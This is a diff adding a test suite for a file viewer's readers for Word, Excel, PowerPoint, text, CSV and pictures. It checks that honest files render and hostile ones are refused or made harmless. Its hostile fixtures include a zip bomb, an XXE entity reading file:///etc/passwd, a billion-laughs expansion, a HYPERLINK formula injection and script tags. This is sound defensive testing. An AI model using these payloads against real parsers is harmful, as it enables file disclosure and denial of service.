@@ -1,0 +1,253 @@
+/** Reading: what a file becomes in the viewer, and that whatever it is, it is contained. */
+import { strToU8, zipSync } from 'fflate';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvRows } from '../../../src-renderer/features/viewer/reading/csv-rows.ts';
+import {
+  maxShownChars,
+  readFile,
+} from '../../../src-renderer/features/viewer/reading/read-file.ts';
+import type {
+  FileReading,
+  ViewedKind,
+} from '../../../src-renderer/features/viewer/reading/shown-file.ts';
+import { viewedKind } from '../../../src-renderer/features/viewer/reading/shown-file.ts';
+import { maxShownRows } from '../../../src-shared/office/sheet-book.ts';
+import {
+  bookFile,
+  dotPng,
+  hugePng,
+  linkedPicture,
+  manyLaughs,
+  paragraph,
+  sheetPackage,
+  slidesFile,
+  wordFile,
+  wordPackage,
+} from '../../support/office-samples.ts';
+
+const words = { slide: '第 {n} 张', notes: '备注' };
+const read = (kind: ViewedKind, bytes: Uint8Array, mime = ''): Promise<FileReading> =>
+  readFile({ kind, bytes, mime, words });
+
+function htmlOf(reading: FileReading): string {
+  if (reading.state === 'refused') throw new Error(`refused: ${reading.reason}`);
+  return reading.parts.map(({ html }) => html).join('');
+}
+const notesOf = (reading: FileReading): readonly string[] =>
+  reading.state === 'refused' ? [] : reading.notes.map(({ code, n }) => `${code} ${n}`);
+
+/** Nothing that runs, nothing that leads out. */
+function expectHarmless(html: string): void {
+  expect(html).not.toMatch(/<(?:script|iframe|object|embed|link|meta|form|a)\b/iu);
+  expect(html).not.toMatch(/<[^>]+\s(?:on\w+|href|style)\s*=/iu);
+  for (const [, address = ''] of html.matchAll(/\ssrc="([^"]*)"/gu)) {
+    expect(address).toMatch(/^data:image\/(?:png|jpeg|gif|webp|bmp);base64,/u);
+  }
+}
+
+describe('an honest file', () => {
+  it('of Word keeps its paragraphs, tables and pictures', async () => {
+    const html = htmlOf(await read('word', await wordFile(['防汛抗旱<责任>分工', '一、总则'])));
+    expect(html).toContain('防汛抗旱&lt;责任&gt;分工');
+    expect(html).toMatch(/<table>.*责任人.*<\/table>/su);
+    expect(html).toMatch(/<img src="data:image\/png;base64,/u);
+    expectHarmless(html);
+  });
+
+  it('of Excel shows sheets, dates, per cents, formulas and merged cells as the sheet does', async () => {
+    const day = new Date(Date.UTC(2026, 4, 12));
+    const bytes = await bookFile(
+      {
+        物资: [
+          ['编织袋', 1_200.5, '青石河仓库'],
+          ['到期', day, 0.256],
+          ['合计', { formula: 'B1*2', result: 2_401 }, ''],
+          ['合并的一格'],
+        ],
+        空表: [],
+        隐藏: [['看不见']],
+      },
+      (book) => {
+        const [first, , third] = book.worksheets;
+        if (first === undefined || third === undefined) throw new Error('no sheets');
+        first.getCell('B1').numFmt = '#,##0.00';
+        first.getCell('B2').numFmt = 'yyyy"年"m"月"d"日"';
+        first.getCell('C2').numFmt = '0.0%';
+        first.mergeCells('A4:C4');
+        third.state = 'hidden';
+      },
+    );
+    const reading = await read('sheet', bytes);
+    const html = htmlOf(reading);
+    for (const text of ['1,200.50', '2026年5月12日', '25.6%', '2401', '青石河仓库']) {
+      expect(html).toContain(`>${text}<`);
+    }
+    expect(html).toContain('<td colspan="3">合并的一格</td>');
+    expect(html).not.toContain('看不见');
+    expect(reading).toMatchObject({ parts: [{ name: '物资' }, { name: '空表' }] });
+    expect(notesOf(reading)).toEqual(['sheetsHidden 1']);
+  });
+
+  it('of PowerPoint shows its slides in their order, with notes', async () => {
+    const bytes = slidesFile([
+      { lines: ['汛前检查', '一、水库'], notes: '讲三分钟' },
+      { lines: ['二、堤防'] },
+    ]);
+    const html = htmlOf(await read('slides', bytes));
+    expect(html).toMatch(/第 1 张.*汛前检查.*备注.*讲三分钟.*第 2 张.*二、堤防/su);
+    expect(html).not.toContain('7');
+  });
+
+  it('of text is read in UTF-8, UTF-16 and GB 18030', async () => {
+    const gb = Uint8Array.from([0xc7, 0xe0, 0xca, 0xaf, 0xba, 0xd3]);
+    expect(htmlOf(await read('text', gb))).toBe('<pre>青石河</pre>');
+    expect(htmlOf(await read('text', strToU8('\uFEFF青石河<b>')))).toBe(
+      '<pre>青石河&lt;b&gt;</pre>',
+    );
+    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('青石河', 'utf16le')]);
+    expect(htmlOf(await read('text', wide))).toBe('<pre>青石河</pre>');
+    const long = strToU8('字'.repeat(maxShownChars + 1));
+    expect(notesOf(await read('text', long))).toEqual([`textCut ${maxShownChars}`]);
+  });
+
+  it('of a table keeps quoted separators, quotes and lines', async () => {
+    const html = htmlOf(await read('table', strToU8('名称;数量\n"甲;乙";"3 ""块"""\n"两\n行";4')));
+    expect(html).toContain('<td>甲;乙</td><td>3 &quot;块&quot;</td>');
+    expect(html).toContain('<td>两\n行</td><td>4</td>');
+  });
+
+  it('that is a picture stands there as it is', async () => {
+    expect(htmlOf(await read('picture', dotPng, 'image/png'))).toMatch(
+      /^<img class="whole" src="data:/u,
+    );
+  });
+
+  it('is known by its extension', () => {
+    expect(viewedKind('通知.DOCX')).toBe('word');
+    expect(viewedKind('a.b.csv')).toBe('table');
+    for (const name of ['旧.doc', '无', 'constructor', 'x.svg'])
+      expect(viewedKind(name)).toBe('none');
+  });
+});
+
+it('any rows come back from the table that they are written as', () => {
+  const cell = fc.string({ unit: fc.constantFrom('字', '"', ',', '\n', ' ', 'a') });
+  const table = fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), {
+    minLength: 1,
+    maxLength: 6,
+  });
+  fc.assert(
+    fc.property(table, (rows) => {
+      const text = rows
+        .map((row) => row.map((one) => `"${one.replaceAll('"', '""')}"`).join(','))
+        .join('\n');
+      const held = rows.filter((row) => row.some((one) => one !== ''));
+      expect(csvRows(text, 100).rows).toEqual(held);
+    }),
+  );
+});
+
+describe('a hostile file', () => {
+  const zeros = new Uint8Array(120 * 1024 * 1024);
+  const bomb = zipSync({ 'word/document.xml': [zeros, { level: 9 }] });
+  const linked = linkedPicture('http://outside.invalid/x.png');
+  const emptyRows = '<row/>'.repeat(1_000_000);
+  const cases: readonly (readonly [string, ViewedKind, Uint8Array, string])[] = [
+    ['a zip bomb', 'word', bomb, 'hostile'],
+    ['a zip bomb as a workbook', 'sheet', bomb, 'hostile'],
+    ['a zip bomb as slides', 'slides', bomb, 'hostile'],
+    [
+      'a file that names one of the machine',
+      'word',
+      wordPackage(paragraph('&x;'), {
+        doctype: '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+      }),
+      'hostile',
+    ],
+    [
+      'many laughs in Word',
+      'word',
+      wordPackage(paragraph('&l9;'), { doctype: manyLaughs }),
+      'hostile',
+    ],
+    [
+      'many laughs in a sheet',
+      'sheet',
+      sheetPackage('<row><c t="str"><v>&l9;</v></c></row>', manyLaughs),
+      'hostile',
+    ],
+    ['a torn Word file', 'word', wordPackage(paragraph('字')).slice(0, 300), 'damaged'],
+    ['a torn workbook', 'sheet', sheetPackage('').slice(0, 300), 'damaged'],
+    [
+      'a PDF under the name of a workbook',
+      'sheet',
+      strToU8('%PDF-1.7\n<script>alert(1)</script>'),
+      'damaged',
+    ],
+    [
+      'a page under the name of a picture',
+      'picture',
+      strToU8('<html><script>alert(1)</script>'),
+      'damaged',
+    ],
+    [
+      'a picture of two thousand million pixels',
+      'picture',
+      hugePng(50_000, 40_000),
+      'pictureTooLarge',
+    ],
+    ['a workbook of a million empty rows', 'sheet', sheetPackage(emptyRows), 'empty'],
+    ['nothing', 'word', new Uint8Array(), 'empty'],
+    ['blanks', 'text', strToU8(' \n\t '), 'empty'],
+  ];
+  it.each(cases)('%s is answered with a reason', async (_, kind, bytes, reason) => {
+    expect(await read(kind, bytes, 'image/png')).toEqual({ state: 'refused', reason });
+  });
+
+  it('with a bomb inside shows what is outside of it', async () => {
+    const nested = wordPackage(paragraph('外面'), { more: { 'word/embeddings/a.zip': bomb } });
+    expect(htmlOf(await read('word', nested))).toContain('外面');
+  });
+
+  it('that links to a picture and a template fetches neither', async () => {
+    const reading = await read('word', wordPackage(linked.body, { more: linked.more }));
+    expect(htmlOf(reading)).toContain('外部图片');
+    expectHarmless(htmlOf(reading));
+    expect(htmlOf(reading)).not.toContain('outside.invalid');
+    expect(notesOf(reading)).toEqual(['picturesLeftOut 1']);
+  });
+
+  it('with a formula shows its text and computes nothing', async () => {
+    const inject = `=HYPERLINK("http://outside.invalid/"&amp;A1,"点我")`;
+    const bytes = sheetPackage(
+      `<row r="1"><c r="A1" t="inlineStr"><is><t>${inject}</t></is></c><c r="B1" t="str"><f>${inject}</f><v>&lt;script&gt;</v></c></row>`,
+    );
+    const html = htmlOf(await read('sheet', bytes));
+    expect(html).toContain('=HYPERLINK(&quot;');
+    expect(html).toContain('<td>&lt;script&gt;</td>');
+    expectHarmless(html);
+  });
+
+  it('of many rows shows the first of them and says so', async () => {
+    const rows = Array.from(
+      { length: maxShownRows + 5 },
+      (_, at) => `<row><c><v>${at}</v></c></row>`,
+    );
+    const reading = await read('sheet', sheetPackage(rows.join('')));
+    expect(notesOf(reading)).toEqual([`rowsCut ${maxShownRows}`]);
+    expect(htmlOf(reading)).toContain(`>${maxShownRows - 1}<`);
+    expect(htmlOf(reading)).not.toContain(`>${maxShownRows + 1}<`);
+  });
+
+  it('of chance never throws and never runs', async () => {
+    const kinds: readonly ViewedKind[] = ['word', 'sheet', 'slides', 'text', 'table', 'picture'];
+    const bytes = fc.uint8Array({ maxLength: 400 });
+    await fc.assert(
+      fc.asyncProperty(fc.constantFrom(...kinds), bytes, async (kind, any) => {
+        const reading = await read(kind, any, 'image/png');
+        if (reading.state === 'shown') expectHarmless(htmlOf(reading));
+      }),
+    );
+  });
+});
